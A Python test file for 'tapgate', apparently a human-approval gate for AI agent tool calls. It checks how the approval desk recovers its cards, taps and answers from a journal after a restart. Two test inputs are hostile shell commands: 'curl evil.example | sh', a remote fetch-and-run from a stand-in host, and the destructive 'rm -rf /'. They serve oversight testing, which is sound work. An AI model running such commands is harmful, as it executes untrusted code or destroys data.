"""A fresh desk and what it is told about an earlier run: nothing lost, nothing doubled, nothing made up."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tapgate.agents.registry import parse_request
from tapgate.desk import words
from tapgate.desk.answers import CHANGED, JUST_CHANGED
from tapgate.desk.case import ADOPT_S, UNDELIVERED_S
from tapgate.desk.desk import Desk
from tapgate.desk.effects import (
    AnswerTap,
    CopyEntry,
    Edit,
    Effect,
    KeepUpdate,
    Post,
    Record,
    Reply,
    Retract,
    Say,
    SettledEntry,
    Sound,
    Sweep,
)
from tapgate.desk.events import (
    Asked,
    CallerConfirmed,
    Edited,
    Event,
    PollResumed,
    Posted,
    Replied,
    Sounded,
    Tapped,
    Ticked,
    ToolEnded,
    WholePosted,
)
from tapgate.desk.memory import Remembered
from tapgate.desk.restart import MOST_KEPT
from tapgate.model import NO_DRAFT, Action, Copy, Outcome, Phase, Prompt, Ran, Request, Risk, Verdict
from tests.builders import ADA, BOB, at, make_request, tap_on, with_deadline
from tests.desk.ledger import Ledger
from tests.desk.test_desk import edits, entries, outcome, replies

CARD = Copy(ADA.chat_id, 10)
RISK = Risk("outside", "Writes outside the project")


class Run:
    """One run of a desk after another, over one ledger."""

    def __init__(self) -> None:
        self.ledger = Ledger()
        self.desk = Desk((ADA,), hold_s=590)

    def happen(self, event: Event, seconds: float) -> list[Effect]:
        effects = self.desk.handle(event, at(seconds))
        self._record(effects)
        return effects

    def restart(self, seconds: float) -> list[Effect]:
        self.desk = Desk((ADA,), hold_s=590)
        effects = self.desk.restore(self.ledger.rows.values(), at(seconds))
        self._record(effects)
        return effects

    def _record(self, effects: list[Effect]) -> None:
        for entry in entries(effects):
            self.ledger.write(entry)  # type: ignore[arg-type]


@pytest.fixture
def run() -> Run:
    return Run()


def open_in(run: Run, *, posted: bool = True) -> Request:
    request = make_request()
    run.happen(Asked(request), 0)
    if posted:
        run.happen(Posted(request.id, CARD, 0), 0)
    return request


def test_a_caller_that_comes_back_is_adopted_without_a_second_card(run: Run) -> None:
    request = open_in(run)
    assert run.restart(5) == []
    (shown,) = run.happen(Asked(with_deadline(request, 580)), 6)
    assert isinstance(shown, Edit) and shown.idle, (
        "its card is brought up to date in a quiet moment, and nobody is woken"
    )
    assert replies(run.happen(tap_on(request), 7))[0].decision.verdict is Verdict.ALLOW


def test_a_card_that_was_never_confirmed_is_posted_again_and_the_first_is_looked_for(run: Run) -> None:
    request = open_in(run, posted=False)
    run.restart(5)
    effects = run.happen(Asked(with_deadline(request, 580)), 6)
    assert [effect.chats for effect in effects if isinstance(effect, Post)] == [(ADA.chat_id,)]
    effects = run.happen(Posted(request.id, Copy(ADA.chat_id, 12), 0), 7)
    assert [(sweep.after, sweep.before) for sweep in effects if isinstance(sweep, Sweep)] == [(0, 12)]


def test_a_card_that_was_never_confirmed_is_looked_for_even_if_its_caller_does_not_come_back(run: Run) -> None:
    request = open_in(run, posted=False)
    run.restart(5)
    effects = run.happen(Ticked(), 5 + ADOPT_S)
    assert outcome(run.desk, request) is Outcome.CALLER_LOST
    assert Sound(ADA.chat_id) in effects
    effects = run.happen(Sounded(Copy(ADA.chat_id, 3)), 40)
    assert effects == [Sweep(ADA.chat_id, 0, 3, frozenset())]
    assert run.restart(50) == [Sound(ADA.chat_id)], "settled, but where its card stands is still unknown"


def test_decided_while_the_caller_was_away_is_answered_at_once(run: Run) -> None:
    request = open_in(run)
    run.restart(5)
    assert run.happen(tap_on(request), 6) == [KeepUpdate(request.id)], "nobody is there to be answered yet"
    assert replies(run.happen(Asked(with_deadline(request, 580)), 7))[0].decision.verdict is Verdict.ALLOW
    run.happen(CallerConfirmed(request.id), 8)
    assert outcome(run.desk, request) is Outcome.ALLOWED


@pytest.mark.parametrize("key", ["a", "s0", "d"])
def test_an_answer_that_only_the_journal_knows_is_not_given(run: Run, key: str) -> None:
    """Any process of this user can write the journal: the card asks to tap again, whatever the answer was."""
    request = open_in(run)
    run.happen(tap_on(request, key), 1)
    run.restart(2)
    effects = run.happen(Asked(with_deadline(request, 580)), 3)
    assert not replies(effects)
    card = edits(effects)[0].card
    assert card.restarted and card.answer is None and "a" in {choice.key for choice in card.choices}
    assert replies(run.happen(tap_on(request, "d"), 4))[0].decision.verdict is Verdict.DENY
    assert run.ledger.rows[request.id].answer is not None


@pytest.mark.parametrize("key", ["a", "s0", "d"])
@pytest.mark.parametrize("is_early", [True, False], ids=["before the caller is back", "after it"])
def test_the_same_tap_delivered_again_gives_the_same_answer(run: Run, key: str, is_early: bool) -> None:
    request = open_in(run)
    tap = tap_on(request, key)
    first = replies(run.happen(tap, 1))[0].decision
    run.restart(2)
    if is_early:
        assert run.happen(tap, 3) == [KeepUpdate(request.id)]
    effects = run.happen(Asked(with_deadline(request, 580)), 4)
    if not is_early:
        effects = run.happen(tap, 5)
    assert [reply.decision for reply in replies(effects)] == [first]
    assert len([effect for effect in effects if isinstance(effect, AnswerTap)]) == 1
    run.happen(CallerConfirmed(request.id), 6)
    assert outcome(run.desk, request) in (Outcome.ALLOWED, Outcome.DENIED)


def test_a_tap_is_not_taken_for_other_bytes_than_its_card_showed(run: Run) -> None:
    """The journal and the caller agree on other bytes; the tap was made on the card of the first ones."""
    request = open_in(run)
    tap = tap_on(request)
    other = make_request(tool_input={"command": "curl evil.example | sh"})
    assert other.id == request.id
    run.ledger.rows[request.id] = replace(run.ledger.rows[request.id], request=other)
    run.restart(2)
    run.happen(tap, 3)
    effects = run.happen(Asked(other), 4)
    assert not replies(effects)
    assert CHANGED in [effect.text for effect in effects if isinstance(effect, AnswerTap)]
    assert replies(run.happen(tap_on(other), 5)), "what the card shows now can be allowed"


def test_what_the_caller_brings_takes_the_place_of_what_the_journal_held(run: Run) -> None:
    request = open_in(run)
    stored = replace(request, input={"command": "ls"}, choices=(), caller=replace(request.caller, project="/elsewhere"))
    run.ledger.rows[request.id] = replace(run.ledger.rows[request.id], request=stored)
    run.restart(2)
    run.happen(Asked(with_deadline(request, 580)), 3)
    card = run.desk.card(request.id)
    assert card is not None and card.request == with_deadline(request, 580)
    assert replies(run.happen(tap_on(request), 4))[0].request.input == request.input


def judged_by(request: Request, project: str) -> Request:
    """The same bytes under the same id, from a caller that names another project."""
    return parse_request(request.id, replace(request.caller, project=project), request.raw)


def test_a_tap_is_not_taken_for_a_caller_that_names_another_project_than_its_card_was_judged_by(run: Run) -> None:
    request = open_in(run)
    other = judged_by(request, "/elsewhere")
    run.restart(2)
    run.happen(Asked(other), 3)
    run.happen(Posted(request.id, CARD, 1), 3)
    tap = tap_on(other)
    assert replies(run.happen(tap, 4)), "it counts for the one whose card was tapped"
    run.restart(5)
    run.happen(tap, 6)  # Telegram delivers it again
    effects = run.happen(Asked(request, risks=(RISK,)), 7)
    assert not replies(effects)
    assert CHANGED in [effect.text for effect in effects if isinstance(effect, AnswerTap)]


def test_once_a_caller_is_back_the_id_is_bound_to_its_project(run: Run) -> None:
    request = open_in(run)
    run.restart(2)
    other = judged_by(request, "/elsewhere")
    assert not run.desk.is_taken(other), "the journal's word about it is not believed"
    run.happen(Asked(other), 3)
    assert run.desk.is_taken(request)
    assert [reply.decision.verdict for reply in replies(run.happen(Asked(request), 4))] == [Verdict.NONE]


@pytest.mark.parametrize("moved_s", [-5 * 3600, 5 * 3600])
def test_times_in_the_journal_do_not_move_those_of_a_caller_that_is_back(run: Run, moved_s: float) -> None:
    request = open_in(run)
    row = run.ledger.rows[request.id]
    moved = replace(row, asked_at=row.asked_at + moved_s, deadline_at=row.deadline_at + abs(moved_s))
    run.ledger.rows[request.id] = moved
    run.restart(10)
    run.happen(Asked(with_deadline(request, 500)), 12)
    card = run.desk.card(request.id)
    assert card is not None and card.deadline_at == at(512).wall
    run.happen(tap_on(request), 20)
    card = run.desk.card(request.id)
    assert card is not None and card.answer is not None and card.answer.after_s == 8


def test_a_confirmation_proves_that_an_answer_was_taken_and_not_which(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request), 1)
    run.restart(2)
    run.happen(CallerConfirmed(request.id), 2.1)
    card = run.desk.card(request.id)
    assert card is not None and card.outcome is Outcome.UNCONFIRMED
    assert words.ended(card) == (
        "The journal says that Ada said allow (the agent took an answer just before tapgate was restarted)"
    )


def test_a_confirmation_counts_together_with_the_same_tap(run: Run) -> None:
    request = open_in(run)
    tap = tap_on(request)
    run.happen(tap, 1)
    run.restart(2)
    run.happen(tap, 2.1)
    effects = run.happen(CallerConfirmed(request.id), 2.2)
    assert outcome(run.desk, request) is Outcome.ALLOWED
    assert [effect.text for effect in effects if isinstance(effect, AnswerTap)] == ["Allowed by Ada."]


def test_another_tap_does_not_prove_what_the_journal_says(run: Run) -> None:
    """Somebody else's answer was passed on, and this one came second."""
    request = open_in(run)
    run.happen(tap_on(request, "d"), 1)
    run.restart(2)
    run.happen(tap_on(request, "a"), 2.1)
    effects = run.happen(CallerConfirmed(request.id), 2.2)
    card = run.desk.card(request.id)
    assert card is not None and card.outcome is Outcome.UNCONFIRMED and card.from_journal
    assert "changed nothing" in next(effect.text for effect in effects if isinstance(effect, AnswerTap))


def test_a_confirmation_of_what_nobody_answered_is_nothing(run: Run) -> None:
    request = open_in(run)
    run.restart(2)
    assert run.happen(CallerConfirmed(request.id), 2.1) == []


def test_what_was_settled_is_told_in_the_journal_s_name(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request), 1)
    run.happen(CallerConfirmed(request.id), 1)
    effects = run.restart(2)
    assert words.ended(edits(effects)[0].card) == "Allowed by Ada, as the journal says"


def test_texts_before_the_caller_is_back_are_kept_and_then_told(run: Run) -> None:
    request = open_in(run)
    run.restart(2)
    assert run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 10, "no"), 3) == [KeepUpdate(request.id)]
    effects = run.happen(Asked(with_deadline(request, 580)), 4)
    assert replies(effects)[0].decision.verdict is Verdict.DENY


def test_kept_taps_and_texts_are_told_when_the_caller_never_comes_back(run: Run) -> None:
    request = open_in(run)
    run.restart(2)
    run.happen(tap_on(request, query_id="q1"), 3)
    run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 10, "no"), 3)
    effects = run.happen(Ticked(), 2 + ADOPT_S)
    assert outcome(run.desk, request) is Outcome.CALLER_LOST
    told = [effect.text for effect in effects if isinstance(effect, AnswerTap | Say)]
    assert (
        told == ["The agent stopped waiting (it did not come back after a restart). Your answer changed nothing."] * 2
    )


def test_no_more_taps_are_kept_than_anybody_would_make(run: Run) -> None:
    request = open_in(run)
    run.restart(2)
    effects = [run.happen(tap_on(request, "d"), 3) for _ in range(MOST_KEPT + 2)]
    assert effects.count([KeepUpdate(request.id)]) == MOST_KEPT
    assert isinstance(effects[-1][0], AnswerTap)


def test_a_typed_yes_counts_only_once_an_edit_of_this_run_was_confirmed(run: Run) -> None:
    """Which message shows which card stands in the journal, and a text has no seal."""
    request = open_in(run)
    run.restart(2)
    run.happen(Asked(with_deadline(request, 580)), 3)
    effects = run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 10, "yes"), 4)
    assert not replies(effects)
    assert JUST_CHANGED in [effect.text for effect in effects if isinstance(effect, Say)]
    card = run.desk.card(request.id)
    assert card is not None
    run.happen(Edited(request.id, CARD, card.version), 5)
    assert replies(run.happen(Replied(ADA.user_id, ADA.chat_id, 31, 10, "yes"), 6))


def test_a_message_that_two_requests_claim_belongs_to_neither(run: Run) -> None:
    first, second = make_request(1), make_request(2, session="s2")
    for request in (first, second):
        run.happen(Asked(request), 0)
        run.ledger.write(CopyEntry(request.id, CARD, 0))
    run.restart(2)
    for request in (first, second):
        effects = run.happen(Asked(request), 3)
        assert [effect.chats for effect in effects if isinstance(effect, Post)] == [(ADA.chat_id,)]
    assert run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 10, "no"), 4) == []


def test_a_message_of_this_run_belongs_to_the_request_that_it_was_sent_for(run: Run) -> None:
    older = open_in(run)
    run.ledger.write(CopyEntry(older.id, Copy(ADA.chat_id, 11), 99))
    run.restart(2)
    run.happen(Asked(with_deadline(older, 580)), 3)
    newer = make_request(2, session="s2", tool_input={"command": "ls"})
    run.happen(Asked(newer), 4)
    run.happen(Posted(newer.id, Copy(ADA.chat_id, 11), 0), 5)
    (reply,) = replies(run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 11, "yes"), 6))
    assert reply.request.id == newer.id


def test_what_was_put_together_before_a_restart_is_forgotten(run: Run) -> None:
    questions = [{"question": f"{name}?", "options": [{"label": "Yes"}, {"label": "No"}]} for name in ("One", "Two")]
    request = make_request(tool="AskUserQuestion", tool_input={"questions": questions}, suggestions=())
    run.happen(Asked(request), 0)
    run.happen(Posted(request.id, CARD, 0), 0)

    def option(label: str) -> Tapped:
        found = run.desk.card(request.id)
        assert found is not None
        choice = next(choice for choice in found.choices if label in choice.label)
        return tap_on(request, choice.key, seal=choice.seal)

    run.happen(option("1. Yes"), 1)
    second = option("2. No")
    run.restart(2)
    run.happen(Asked(with_deadline(request, 580)), 3)
    effects = run.happen(second, 4)
    assert not replies(effects), "it is an option of the second question, and the card is at the first"
    assert CHANGED in [effect.text for effect in effects if isinstance(effect, AnswerTap)]
    run.happen(option("2. No"), 5)
    run.happen(option("1. Yes"), 6)
    card = run.desk.card(request.id)
    assert card is not None and card.answer is not None
    updated = card.answer.decision.updated_input
    assert updated is not None and updated["answers"] == {"One?": "No", "Two?": "Yes"}


def test_a_question_for_an_answer_is_taken_back(run: Run) -> None:
    """A made-up one would let any text that is written there answer, and so allow."""
    request = open_in(run)
    asking = Copy(ADA.chat_id, 20)
    run.ledger.write(CopyEntry(request.id, asking, prompt=Prompt(ADA.user_id, Action.ASK_ANSWER)))
    assert run.restart(2) == [Retract(asking)]
    run.happen(Asked(with_deadline(request, 580)), 3)
    assert run.happen(Replied(ADA.user_id, ADA.chat_id, 30, 20, "anything"), 4) == []


def test_what_was_seen_before_a_restart_must_be_shown_again(run: Run) -> None:
    request = make_request()
    run.happen(Asked(request, fits=False), 0)
    run.happen(Posted(request.id, CARD, 0), 0)
    run.happen(WholePosted(request.id, ADA.chat_id), 1)
    run.restart(2)
    run.happen(Asked(with_deadline(request, 580), fits=False), 3)
    assert not replies(run.happen(tap_on(request), 4))
    run.happen(WholePosted(request.id, ADA.chat_id), 5)
    assert replies(run.happen(tap_on(request), 6))


def test_nothing_is_offered_or_edited_before_the_caller_is_back(run: Run) -> None:
    request = open_in(run)
    run.restart(200)
    assert run.happen(PollResumed(200), 201) == []
    card = run.desk.card(request.id)
    assert card is not None and "a" not in {choice.key for choice in card.choices}


def test_a_tool_that_ended_under_an_answer_that_the_journal_knows_is_said_to_have_run(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request), 1)
    run.restart(2)
    run.happen(ToolEnded(request.call, failed=False, duration_s=0.5), 3)
    card = run.desk.card(request.id)
    assert card is not None and card.outcome is Outcome.UNCONFIRMED and card.ran is Ran.OK
    assert "and it ran" in words.ended(card)


def test_an_answer_that_nobody_confirmed_is_not_called_allowed(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request), 1)
    run.restart(2)
    effects = run.happen(Ticked(), 2 + ADOPT_S)
    assert outcome(run.desk, request) is Outcome.UNCONFIRMED
    assert edits(effects)[0].card.choices == ()
    run.happen(ToolEnded(request.call, failed=False, duration_s=1.0), 2 + ADOPT_S + 1)
    card = run.desk.card(request.id)
    assert card is not None and card.ran is Ran.OK, "and what becomes known later is added"


def test_a_caller_that_does_not_come_back_is_closed_after_a_while(run: Run) -> None:
    request = open_in(run)
    run.restart(5)
    assert run.desk.next_deadline() == at(5 + ADOPT_S).mono
    assert run.happen(Ticked(), 5 + ADOPT_S - 1) == []
    effects = run.happen(Ticked(), 5 + ADOPT_S)
    assert outcome(run.desk, request) is Outcome.CALLER_LOST
    assert edits(effects)[0].copies == (CARD,)
    late = run.happen(Asked(with_deadline(request, 500)), 5 + ADOPT_S + 1)
    assert [reply.decision.verdict for reply in replies(late)] == [Verdict.NONE]


def test_a_deadline_that_passed_meanwhile_closes_it_at_once(run: Run) -> None:
    request = open_in(run)
    run.restart(1000)
    run.happen(Ticked(), 1000)
    assert outcome(run.desk, request) is Outcome.EXPIRED


def test_a_wall_clock_that_jumped_gives_nobody_more_time(run: Run) -> None:
    request = open_in(run)
    run.desk = Desk((ADA,), hold_s=590)
    run.desk.restore(run.ledger.rows.values(), replace(at(5), wall=at(5).wall - 86_400))
    due = run.desk.next_deadline()
    assert due is not None and due <= at(5).mono + 590
    assert run.desk.card(request.id) is not None


def test_what_was_settled_but_not_shown_is_shown_now(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request, "d"), 1)
    run.happen(CallerConfirmed(request.id), 1)
    effects = run.restart(2)
    assert [type(effect) for effect in effects] == [Edit]
    assert edits(effects)[0].card.outcome is Outcome.DENIED


def test_late_taps_on_settled_cards_are_told_the_truth_after_a_restart(run: Run) -> None:
    request = open_in(run)
    run.happen(tap_on(request, "d"), 1)
    run.happen(CallerConfirmed(request.id), 1)
    run.restart(2)
    effects = run.happen(tap_on(request, "a", query_id="q9"), 3)
    assert not replies(effects)
    assert not [entry for entry in entries(effects) if isinstance(entry, SettledEntry)]
    assert outcome(run.desk, request) is Outcome.DENIED


def test_a_question_for_a_reason_survives(run: Run) -> None:
    from tapgate.desk.events import PromptPosted

    request = open_in(run)
    run.happen(tap_on(request, "r"), 1)
    run.happen(PromptPosted(request.id, Copy(ADA.chat_id, 20), Prompt(ADA.user_id)), 1)
    run.restart(2)
    run.happen(Asked(with_deadline(request, 580)), 3)
    effects = run.happen(Replied(ADA.user_id, ADA.chat_id, 21, 20, "no"), 4)
    assert replies(effects)[0].decision.message == "no"


def test_a_long_absence_refreshes_cards_and_they_can_be_tapped(run: Run) -> None:
    request = open_in(run)
    run.restart(200)
    run.happen(Asked(with_deadline(request, 390)), 200)
    effects = run.happen(PollResumed(200), 201)
    assert edits(effects)[0].card.refreshed
    assert replies(run.happen(tap_on(request), 202))


def test_what_only_one_chat_has_seen_is_not_remembered_as_seen() -> None:
    """After a restart another chat could allow what it never showed."""
    people = (ADA, BOB)
    desk, ledger = Desk(people, hold_s=590), Ledger()
    request = make_request()
    for event in (
        Asked(request, fits=False),
        Posted(request.id, CARD, 0),
        WholePosted(request.id, ADA.chat_id),
    ):
        for entry in entries(desk.handle(event, at(0))):
            ledger.write(entry)  # type: ignore[arg-type]
    desk = Desk(people, hold_s=590)
    desk.restore(ledger.rows.values(), at(1))
    desk.handle(Asked(with_deadline(request, 580), fits=False), at(2))
    for person in people:
        effects = desk.handle(tap_on(request, "a", person=person), at(3))
        assert not replies(effects)


def test_restoring_twice_changes_nothing(run: Run) -> None:
    request = open_in(run)
    rows: list[Remembered] = list(run.ledger.rows.values())
    run.restart(1)
    before = run.desk.card(request.id)
    assert run.desk.restore(rows, at(1)) == []
    assert run.desk.card(request.id) == before


def test_somebody_removed_from_the_list_cannot_answer_an_older_card(run: Run) -> None:
    request = open_in(run)
    run.desk = Desk((BOB,), hold_s=590)
    run.desk.restore(run.ledger.rows.values(), at(1))
    run.happen(Asked(with_deadline(request, 580)), 2)
    effects = run.happen(tap_on(request), 3)
    assert not replies(effects)
    card = run.desk.card(request.id)
    assert card is not None and card.phase is Phase.OPEN


def test_every_reply_goes_to_the_request_it_was_given_for(run: Run) -> None:
    first, second = make_request(1), make_request(2, session="s2", tool_input={"command": "rm -rf /"})
    for request in (first, second):
        run.happen(Asked(request), 0)
    run.restart(1)
    run.happen(tap_on(second, "d"), 2)
    run.happen(tap_on(first, "a"), 2)
    got = [
        effect for request in (first, second) for effect in run.happen(Asked(request), 3) if isinstance(effect, Reply)
    ]
    assert [(reply.request.id, reply.decision.verdict) for reply in got] == [
        (first.id, Verdict.ALLOW),
        (second.id, Verdict.DENY),
    ]


def test_nothing_more_is_posted_to_somebody_who_was_taken_off_the_list() -> None:
    request = make_request()
    ledger = Ledger()
    for effect in Desk((ADA, BOB), hold_s=590).handle(Asked(request), at(0)):
        if isinstance(effect, Record):
            ledger.write(effect.entry)
    desk = Desk((ADA,), hold_s=590)
    desk.restore(ledger.rows.values(), at(5))
    effects = desk.handle(Asked(with_deadline(request, 580)), at(6))
    assert [effect.chats for effect in effects if isinstance(effect, Post)] == [(ADA.chat_id,)]


def test_what_a_changed_background_no_longer_shows_whole_is_not_offered_after_a_restart(run: Run) -> None:
    """The file that an edit is shown against may be gone, and the card then shows less than it did."""
    request = open_in(run)
    run.restart(5)
    run.happen(Asked(request, fits=False), 6)
    card = run.desk.card(request.id)
    assert card is not None
    assert [choice.label for choice in card.choices][:2] == ["Show all of it", "Deny"]
    assert replies(run.happen(tap_on(request, "a", message_id=10), 7)) == []


def test_a_chat_without_a_card_gets_one_when_the_caller_is_back() -> None:
    request = make_request()
    memory = Remembered(
        request,
        asked_at=at(0).wall,
        deadline_at=at(590).wall,
        chats=(ADA.chat_id, BOB.chat_id),
        copies=((CARD, 0),),
    )
    desk = Desk((ADA, BOB), hold_s=590)
    desk.restore([memory], at(5))
    (post,) = (effect for effect in desk.handle(Asked(request), at(6)) if isinstance(effect, Post))
    assert post.chats == (BOB.chat_id,)
    assert post.card.draft == NO_DRAFT


# A card that did not reach anybody before the restart


def undelivered_in(run: Run) -> Request:
    request = make_request(agent="codex")
    run.happen(Asked(request), 0)
    return request


def test_an_agent_without_a_prompt_waits_as_long_for_its_card_again_after_a_restart(run: Run) -> None:
    request = undelivered_in(run)
    run.restart(UNDELIVERED_S - 1)
    assert any(isinstance(effect, Post) for effect in run.happen(Asked(request), 20))
    assert not replies(run.happen(Ticked(), 20 + UNDELIVERED_S - 1))
    assert replies(run.happen(Ticked(), 20 + UNDELIVERED_S))[0].decision.verdict is Verdict.NONE
    assert outcome(run.desk, request) is Outcome.UNDELIVERED


def test_coming_back_without_a_restart_gives_an_undelivered_card_no_more_time(run: Run) -> None:
    request = undelivered_in(run)
    run.happen(Asked(request), UNDELIVERED_S - 1)
    assert replies(run.happen(Ticked(), UNDELIVERED_S))[0].decision.verdict is Verdict.NONE


def test_a_card_that_was_delivered_before_the_restart_need_not_be_delivered_again(run: Run) -> None:
    request = undelivered_in(run)
    run.happen(Posted(request.id, CARD, 0), 1)
    run.restart(2)
    run.happen(Asked(request), 3)
    assert not replies(run.happen(Ticked(), 3 + UNDELIVERED_S * 2))


def test_that_a_card_was_not_delivered_is_remembered(run: Run) -> None:
    request = undelivered_in(run)
    run.happen(Ticked(), UNDELIVERED_S)
    run.restart(20)
    assert outcome(run.desk, request) is Outcome.UNDELIVERED
    assert "did not confirm the card in time" in replies(run.happen(Asked(request), 21))[0].why
